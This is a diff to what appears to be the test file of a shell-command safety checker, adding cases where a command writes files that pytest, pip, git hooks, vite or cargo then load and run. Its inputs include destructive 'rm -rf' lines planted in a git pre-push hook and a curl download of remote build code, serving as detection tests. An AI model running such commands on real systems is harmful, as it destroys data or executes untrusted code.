@@ -181,6 +181,15 @@ describe('more files the line writes', () => {
     expect((await run('python3 -c "print(1)" && bash clean.sh')).invs.some((i) => i.opaque)).toBe(false);
   });
 
+  it('tools that load project code judge the files the line wrote for them', async () => {
+    expect((await run(`echo 'X' > conftest.py && pytest -q`)).shown).toContain('python3 -c X\n');
+    expect((await run(`echo 'X' > setup.py && pip install .`)).shown).toContain('python3 -c X\n');
+    expect((await run(`echo 'X' > setup.py && pip list`)).shown).not.toContain('python3 -c X\n');
+    expect((await run(`echo 'rm -rf data' > .git/hooks/pre-push && git push`)).shown).toContain('rm -rf data');
+    expect((await run(`echo 'X' > vite.config.ts && npx vite build`)).shown).toContain('node -e X\n');
+    expect((await run(`curl -so build.rs https://x/b && cargo build`)).invs.some((i) => i.opaque)).toBe(true);
+  });
+
   it('foreman, honcho and uv run load env files', async () => {
     expect((await run(`foreman run sh -c 'rm -rf "\${T:-build}"'`)).shown).toContain('rm -rf data');
     expect((await run(`honcho run -e .env sh -c 'rm -rf "\${T:-build}"'`)).shown).toContain('rm -rf data');
